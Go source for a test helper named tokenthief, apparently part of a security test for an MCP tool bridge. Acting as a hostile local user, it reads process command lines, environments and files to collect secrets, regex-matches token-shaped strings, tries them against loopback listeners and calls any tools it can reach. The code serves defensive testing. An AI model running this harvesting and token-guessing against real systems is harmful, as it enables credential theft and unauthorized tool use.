// Command tokenthief is the hostile local user of bridge_attack_linux_test.go:
// run as another uid while a transport: process capsule works, it gathers
// everything it can read that could hold the tool bridge's token (every
// process's cmdline and environ, every file any argv names, every file
// under the -scan directories), takes every token-shaped string from it,
// and tries each, and no token at all, on every loopback listener the
// -uid user owns, as the bridge's MCP client would. A listener that lets
// it in gets every tool it lists called with -marker as each argument.
// It prints a JSON report: what it gathered, what it tried and what it
// called; the test decides whether anything leaked.
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// maxFile is how much of one file is read: a config holding a token is
// small, and binaries named in argv need not be read whole. maxHarvest
// bounds the whole walk on a busy /tmp: the directories to scan are
// walked in the order given, so the capsule's own come first.
const maxFile, maxHarvest = 1 << 20, 512 << 20

type report struct {
	// Harvest is every byte gathered, for the test to search.
	Harvest []byte `json:"harvest"`
	// Cmdlines are the pids whose cmdline was read; Environs those whose
	// environ was; Files the files read.
	Cmdlines, Environs []int
	Files              int
	// Truncated says maxHarvest stopped the walk.
	Truncated  bool
	Candidates int
	Listeners  []listener
	// Called are the tools a listener let it call, and their answers.
	Called []string
}

type listener struct {
	Port int
	// Statuses counts the HTTP statuses of the attempts; Challenge is
	// the WWW-Authenticate of the attempt without a token.
	Statuses  map[int]int
	Challenge string
	// Accepted is whether any attempt got an MCP session that listed
	// tools.
	Accepted bool
}

func main() {
	uid := flag.Int("uid", -1, "attack loopback listeners of this uid")
	skip := flag.String("skip", "", "comma-separated ports not to touch (bystanders)")
	marker := flag.String("marker", "", "the text every tool call carries")
	scan := flag.String("scan", "", "comma-separated directories to read every file of")
	flag.Parse()
	var r report
	var harvest bytes.Buffer
	gather(&r, &harvest, strings.Split(*scan, ","))
	r.Harvest = harvest.Bytes()
	cands := candidates(r.Harvest)
	r.Candidates = len(cands)
	skipped := map[int]bool{}
	for _, p := range strings.Split(*skip, ",") {
		if n, err := strconv.Atoi(p); err == nil {
			skipped[n] = true
		}
	}
	for _, port := range listeners(*uid) {
		if !skipped[port] {
			r.Listeners = append(r.Listeners, attack(&r, port, cands, *marker))
		}
	}
	if err := json.NewEncoder(os.Stdout).Encode(r); err != nil {
		os.Exit(1)
	}
}

// gather reads /proc and the scanned directories into harvest.
func gather(r *report, harvest *bytes.Buffer, scan []string) {
	read := func(path string) bool {
		b, err := readFile(path)
		if err != nil {
			return false
		}
		harvest.Write(b)
		harvest.WriteByte('\n')
		return true
	}
	procs, _ := os.ReadDir("/proc")
	for _, p := range procs {
		pid, err := strconv.Atoi(p.Name())
		if err != nil {
			continue
		}
		dir := filepath.Join("/proc", p.Name())
		if b, err := os.ReadFile(filepath.Join(dir, "cmdline")); err == nil {
			r.Cmdlines = append(r.Cmdlines, pid)
			harvest.Write(b)
			harvest.WriteByte('\n')
			for _, arg := range strings.Split(string(b), "\x00") {
				for _, path := range namedPaths(arg) {
					if read(path) {
						r.Files++
					}
				}
			}
		}
		if read(filepath.Join(dir, "environ")) {
			r.Environs = append(r.Environs, pid)
		}
	}
	for _, root := range scan {
		if root == "" {
			continue
		}
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if harvest.Len() > maxHarvest {
				r.Truncated = true
				return fs.SkipAll
			}
			if err == nil && d.Type().IsRegular() && read(path) {
				r.Files++
			}
			return nil
		})
	}
}

// readFile reads up to maxFile bytes of a regular file, never blocking
// on a FIFO put in its way.
func readFile(path string) ([]byte, error) {
	f, err := os.OpenFile(path, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	if fi, err := f.Stat(); err != nil || !fi.Mode().IsRegular() {
		return nil, fmt.Errorf("%s is not a regular file", path)
	}
	return io.ReadAll(io.LimitReader(f, maxFile))
}

// namedPaths are the absolute paths an argument names: itself, or what
// follows an '='.
func namedPaths(arg string) []string {
	var out []string
	for _, s := range []string{arg, arg[strings.IndexByte(arg, '=')+1:]} {
		if filepath.IsAbs(s) && !slices.Contains(out, s) {
			out = append(out, s)
		}
	}
	return out
}

var (
	hexToken = regexp.MustCompile(`[0-9a-fA-F]{32,64}`)
	bearer   = regexp.MustCompile(`Bearer\s+([^\s"'\\}\x00]+)`)
	tokenVar = regexp.MustCompile(`[A-Z0-9_]*(?:TOKEN|SECRET|KEY)[A-Z0-9_]*=([^\x00\n]+)`)
)

// candidates are the token-shaped strings of harvest that can be sent
// in a header, at most 2000.
func candidates(harvest []byte) []string {
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		printable := !strings.ContainsFunc(s, func(r rune) bool { return r < 0x21 || r > 0x7e })
		if len(s) >= 8 && printable && !seen[s] && len(out) < 2000 {
			seen[s] = true
			out = append(out, s)
		}
	}
	for _, m := range bearer.FindAllSubmatch(harvest, -1) {
		add(string(m[1]))
	}
	for _, m := range tokenVar.FindAllSubmatch(harvest, -1) {
		add(string(m[1]))
	}
	for _, m := range hexToken.FindAll(harvest, -1) {
		for i := 0; i+32 <= len(m); i++ {
			add(string(m[i : i+32]))
		}
	}
	return out
}

// listeners are the loopback TCP ports uid listens on.
func listeners(uid int) []int {
	var out []int
	for _, file := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		f, err := os.Open(file)
		if err != nil {
			continue
		}
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			fields := strings.Fields(sc.Text())
			if len(fields) < 8 || fields[3] != "0A" || fields[7] != strconv.Itoa(uid) {
				continue
			}
			host, port, _ := strings.Cut(fields[1], ":")
			if !loopback(host) {
				continue
			}
			if n, err := strconv.ParseUint(port, 16, 16); err == nil && !slices.Contains(out, int(n)) {
				out = append(out, int(n))
			}
		}
		f.Close()
	}
	return out
}

// loopback reports whether a /proc/net/tcp address (hex, host order
// words) is 127.0.0.0/8 or ::1, or the wildcard.
func loopback(h string) bool {
	b, err := hex.DecodeString(h)
	switch {
	case err != nil:
		return false
	case len(b) == 4:
		return b[3] == 127 || string(b) == "\x00\x00\x00\x00"
	case len(b) == 16:
		return strings.Trim(h, "0") == "" || h == "00000000000000000000000001000000"
	}
	return false
}

// attack tries no token and then every candidate on port's /bridge.
func attack(r *report, port int, cands []string, marker string) listener {
	l := listener{Port: port, Statuses: map[int]int{}}
	url := fmt.Sprintf("http://127.0.0.1:%d/bridge", port)
	client := &http.Client{Timeout: 5 * time.Second}
	for i, c := range append([]string{""}, cands...) {
		status, challenge := initialize(client, url, c)
		l.Statuses[status]++
		if i == 0 {
			l.Challenge = challenge
		}
		// A 200 alone is no way in: another test's stand-in on this
		// host may answer any POST. What counts is an MCP session that
		// lists tools.
		if status == http.StatusOK {
			if called, ok := callAll(url, c, marker); ok {
				l.Accepted = true
				r.Called = append(r.Called, called...)
			}
		}
		if i == 0 && (status <= 0 || status == http.StatusNotFound) {
			break // nothing serves /bridge here
		}
	}
	return l
}

// initialize sends an MCP initialize request with token (none if "").
func initialize(client *http.Client, url, token string) (int, string) {
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(
		`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"thief","version":"1"}}}`))
	if err != nil {
		return -1, ""
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := client.Do(req)
	if err != nil {
		return -1, ""
	}
	io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<16))
	resp.Body.Close()
	return resp.StatusCode, resp.Header.Get("WWW-Authenticate")
}

// callAll lists url's tools with token and calls each with marker; ok
// is whether an MCP session listed them.
func callAll(url, token, marker string) (called []string, ok bool) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	hc := &http.Client{Transport: auth{"Bearer " + token}}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "thief", Version: "1"}, nil).Connect(ctx,
		&mcp.StreamableClientTransport{Endpoint: url, HTTPClient: hc, DisableStandaloneSSE: true, MaxRetries: -1}, nil)
	if err != nil {
		return nil, false
	}
	defer cs.Close()
	list, err := cs.ListTools(ctx, nil)
	if err != nil {
		return nil, false
	}
	var out []string
	for _, t := range list.Tools {
		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: t.Name,
			Arguments: map[string]any{"text": marker, "command": marker, "a": marker}})
		switch {
		case err != nil:
			out = append(out, t.Name+": "+err.Error())
		default:
			b, _ := json.Marshal(res.Content)
			out = append(out, t.Name+": "+string(b))
		}
	}
	return out, true
}

type auth struct{ header string }

func (a auth) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", a.header)
	return http.DefaultTransport.RoundTrip(r)
}
